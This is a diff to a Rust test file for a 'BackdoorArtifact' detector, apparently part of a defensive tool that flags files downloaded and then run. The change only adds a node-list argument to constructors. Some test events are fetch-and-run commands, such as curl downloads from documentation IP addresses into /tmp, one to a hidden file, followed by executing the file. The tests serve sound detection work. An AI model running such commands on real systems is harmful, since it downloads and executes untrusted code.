@@ -169,7 +169,7 @@ fn one_node_with_a_clock_an_hour_ahead_does_not_silence_the_others() {
     feed(&mut detector, &[exec_at("id", Some("c3"), T - 600_000)]);
     assert_eq!(detector.late_events(), 1);
 
-    let mut backdoor = BackdoorArtifact::new(WindowConfig::default());
+    let mut backdoor = BackdoorArtifact::new(WindowConfig::default(), SharedNodeLists::fixed(NodeLists::shipped()));
     feed(&mut backdoor, &[on_node(exec_at("whoami", Some("b1"), T + 3_600_000), "node-b")]);
     let fetched =
         [exec_at("curl -o /tmp/x http://198.51.100.7/x", Some("c1"), T), exec_at("/tmp/x", Some("c1"), T + 5_000)];
@@ -178,7 +178,7 @@ fn one_node_with_a_clock_an_hour_ahead_does_not_silence_the_others() {
 
 #[test]
 fn a_downloaded_file_run_later_is_a_backdoor_artifact() {
-    let mut detector = BackdoorArtifact::new(WindowConfig::default());
+    let mut detector = BackdoorArtifact::new(WindowConfig::default(), SharedNodeLists::fixed(NodeLists::shipped()));
     let c = Some("c1");
     let events = [
         exec_at("curl -s -o /tmp/.k http://203.0.113.5/k", c, T),
@@ -195,7 +195,7 @@ fn a_downloaded_file_run_later_is_a_backdoor_artifact() {
 
 #[test]
 fn downloads_never_run_run_too_late_or_elsewhere_are_not() {
-    let mut detector = BackdoorArtifact::new(WindowConfig::default());
+    let mut detector = BackdoorArtifact::new(WindowConfig::default(), SharedNodeLists::fixed(NodeLists::shipped()));
     let never_run = [
         exec_at("curl -o /tmp/report.pdf https://example.com/r.pdf", Some("c1"), T),
         exec_at("ls /tmp", Some("c1"), T + 1),
